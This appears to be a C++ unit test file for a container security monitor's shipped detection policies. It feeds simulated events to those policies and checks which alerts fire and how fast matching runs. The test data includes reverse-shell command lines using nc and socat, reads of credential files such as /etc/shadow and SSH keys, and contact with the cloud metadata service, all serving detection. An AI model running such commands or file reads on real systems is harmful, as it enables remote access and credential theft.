// SPDX-License-Identifier: Apache-2.0
// The policies that nswarden comes with: they load without a word, say what they should, and cost
// next to nothing.
#include <gmock/gmock.h>

#include <cstdio>
#include <ctime>

#include "tests/rule/acts.h"

namespace nsw::rule::test {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;

const std::string kPolicies = NSW_SOURCE_DIR "/policies";

class Shipped : public testing::Test {
 protected:
  void SetUp() override {
    const Loaded loaded = LoadPolicies({kPolicies}, {.check_owner = false});
    for (const Diagnostic& d : loaded.diagnostics) ADD_FAILURE() << d.Text();
    set_ = loaded.set;
    ASSERT_NE(set_, nullptr);
    policies_ = set_->Select({});
  }

  std::vector<std::string> Alerts(const event::Event& event) const {
    Matches matches;
    set_->Match(event, policies_, matches);
    EXPECT_FALSE(matches.unknown);
    std::vector<std::string> names;
    for (size_t i = 0; i < matches.count; i++) {
      names.push_back(matches.rules[i]->name);
      EXPECT_EQ(RenderOutput(*matches.rules[i]->output, event).find("<NA>"), std::string::npos)
          << names.back();
    }
    return names;
  }

  std::unique_ptr<Act> Exec(const std::string& path, const std::string& cmdline,
                            uint32_t exe_flags = 0) const {
    auto act = Act::Exec(path);
    act->process.exepath = path;
    act->process.name = path.substr(path.rfind('/') + 1);
    act->process.cmdline = cmdline;
    act->process.exe_flags = exe_flags;
    return act;
  }

  std::shared_ptr<const PolicySet> set_;
  std::vector<uint32_t> policies_;
};

TEST_F(Shipped, TenRulesForEveryContainerThatOnlyAlert) {
  size_t rules = 0;
  for (const PolicyInfo& policy : set_->policies()) {
    rules += policy.rules;
    EXPECT_FALSE(policy.has_deny) << policy.name;
  }
  EXPECT_EQ(rules, 10U);
  EXPECT_EQ(policies_.size(), set_->policies().size());
}

TEST_F(Shipped, Shell) {
  auto act = Exec("/bin/sh", "sh");
  EXPECT_THAT(Alerts(act->event), IsEmpty());
  act->process.tty = 34816;
  EXPECT_THAT(Alerts(act->event), ElementsAre("Terminal shell in container"));
  act->header().result = -2;
  EXPECT_THAT(Alerts(act->event), IsEmpty());
}

TEST_F(Shipped, SensitiveFiles) {
  for (const char* path :
       {"/etc/shadow", "/etc/sudoers.d/x", "/root/.ssh/id_rsa", "/home/a/.aws/credentials"}) {
    EXPECT_THAT(Alerts(Act::Open(path)->event), ElementsAre("Sensitive file read")) << path;
  }
  for (const char* path : {"/etc/passwd", "/root/.ssh/id_rsa.pub", "/srv/shadow"}) {
    EXPECT_THAT(Alerts(Act::Open(path)->event), IsEmpty()) << path;
  }
  auto sshd = Act::Open("/etc/shadow");
  sshd->process.name = "sshd";
  EXPECT_THAT(Alerts(sshd->event), IsEmpty());
}

TEST_F(Shipped, SystemFiles) {
  EXPECT_THAT(Alerts(Act::Open("/etc/cron.d/x", O_WRONLY)->event),
              ElementsAre("System file changed"));
  EXPECT_THAT(Alerts(Act::Open("/usr/bin/x", O_RDONLY | O_CREAT, true)->event),
              ElementsAre("System file changed"));
  EXPECT_THAT(Alerts(Act::Open("/etc/hosts", O_WRONLY)->event), IsEmpty());
  EXPECT_THAT(Alerts(Act::Open("/etcx/hosts", O_WRONLY)->event), IsEmpty());
  EXPECT_THAT(Alerts(Act::Open("/etc/cron.d/x")->event), IsEmpty());
}

TEST_F(Shipped, Programs) {
  EXPECT_THAT(Alerts(Exec("/tmp/x", "x")->event),
              ElementsAre("Program run from a temporary place"));
  EXPECT_THAT(Alerts(Exec("/memfd:x", "x", NSW_EXE_MEMFD)->event),
              ElementsAre("Program run from a temporary place"));
  EXPECT_THAT(Alerts(Exec("/opt/x", "x", NSW_EXE_UPPER)->event),
              ElementsAre("Program not in the image"));
  EXPECT_THAT(Alerts(Exec("/usr/bin/apt-get", "apt-get update")->event),
              ElementsAre("Package manager run"));
  EXPECT_THAT(Alerts(Exec("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 1")->event),
              ElementsAre("Remote shell tool run"));
  EXPECT_THAT(Alerts(Exec("/usr/bin/nc", "nc -z localhost 80")->event), IsEmpty());
  EXPECT_THAT(Alerts(Exec("/usr/bin/socat", "socat TCP:x:1 EXEC:/bin/sh")->event),
              ElementsAre("Remote shell tool run"));
  EXPECT_THAT(Alerts(Exec("/usr/bin/nsenter", "nsenter -t 1 -m")->event),
              ElementsAre("Namespace tool run"));
  EXPECT_THAT(Alerts(Exec("/usr/sbin/nginx", "nginx -g x")->event), IsEmpty());
}

TEST_F(Shipped, Network) {
  EXPECT_THAT(Alerts(Act::Connect("169.254.169.254", 80)->event),
              ElementsAre("Cloud metadata service contacted"));
  EXPECT_THAT(Alerts(Act::Connect("10.0.0.1", 80)->event), IsEmpty());
  EXPECT_THAT(Alerts(Act::Unix("/run/docker.sock")->event),
              ElementsAre("Container runtime socket used"));
  EXPECT_THAT(Alerts(Act::Unix("/host/var/run/docker.sock")->event),
              ElementsAre("Container runtime socket used"));
  EXPECT_THAT(Alerts(Act::Unix("/run/php.sock")->event), IsEmpty());
}

TEST(Examples, Load) {
  const Loaded loaded = LoadPolicies({kPolicies + "/examples"}, {.check_owner = false});
  for (const Diagnostic& d : loaded.diagnostics) ADD_FAILURE() << d.Text();
  ASSERT_NE(loaded.set, nullptr);
  container::Container nginx;
  nginx.image = container::ParseImage("nginx:1.25");
  EXPECT_EQ(loaded.set->Select(nginx).size(), 1U);
}

double CpuNs() {
  timespec t{};
  clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
  return static_cast<double>(t.tv_sec) * 1e9 + static_cast<double>(t.tv_nsec);
}

// Not a limit that a loaded machine could miss: the rate is printed, and only a disaster fails.
TEST_F(Shipped, Speed) {
  std::vector<std::unique_ptr<Act>> acts;
  acts.push_back(Act::Open("/usr/share/nginx/html/index.html"));
  acts.push_back(Act::Connect("10.1.2.3", 443));
  acts.push_back(Act::Exec("/usr/sbin/nginx"));
  acts.push_back(Act::Exit());
  for (const auto& act : acts) {
    const double begin = CpuNs();
    constexpr int kRounds = 300'000;
    size_t found = 0;
    for (int i = 0; i < kRounds; i++) {
      Matches matches;
      set_->Match(act->event, policies_, matches);
      found += matches.count;
    }
    const double took = CpuNs() - begin;
    EXPECT_EQ(found, 0U);
    EXPECT_LT(took / kRounds, 20'000);
    std::printf("%-10s %6.0f ns an event\n", std::string(act->event.type_name()).c_str(),
                took / kRounds);
  }
}

}  // namespace
}  // namespace nsw::rule::test
